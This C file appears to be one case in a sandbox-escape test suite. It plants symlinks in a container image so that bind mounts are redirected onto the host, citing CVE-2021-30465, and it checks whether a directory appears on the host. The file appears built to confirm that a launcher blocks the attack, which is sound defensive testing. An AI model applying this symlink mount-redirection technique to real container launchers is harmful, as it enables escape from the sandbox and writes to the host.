// row: F1
// what: the image's links lead a mount point onto the host (CVE-2021-30465, CVE-2026-87766)
// control: naive
// image: own
// bind: {dir}/source:/old/made/below
// bind: {dir}/source:/data/made/below
// bind: {dir}/source:/up/made/below
// bind: {dir}/source:/var/tmp/made/below
// refusal: prevented
#include "attack.h"

// The pilot's directory as the image writes it, and from below by "..".
void image(const char *dir) {
    char path[8192], victim[8192];
    snprintf(victim, sizeof victim, "%s/../pilot/victim", dir);
    mkdir(in_dir("victim"), 0700);
    mkdir(in_dir("source"), 0700);
    put(in_dir("source/file"), "x");
    snprintf(path, sizeof path, "%s/data", dir);
    if (symlink(victim, path)) perror(path);
    // Where a launcher has the host's root while it mounts (bubblewrap below 0.12).
    char old[8300];
    snprintf(old, sizeof old, "/oldroot%s", victim);
    snprintf(path, sizeof path, "%s/old", dir);
    if (symlink(old, path)) perror(path);
    snprintf(path, sizeof path, "%s/up", dir);
    if (symlink("../pilot/victim", path)) perror(path);
    snprintf(path, sizeof path, "%s/var", dir);
    mkdir(path, 0755);
    snprintf(path, sizeof path, "%s/var/tmp", dir);
    if (symlink(victim, path)) perror(path);
}
const char *hurt(void) {
    struct stat about;
    if (!stat(in_dir("victim/made"), &about)) return "a directory was made on the host, in the pilot's own";
    return NULL;
}
void attack(void) { prevented("it runs, and nothing was made"); }
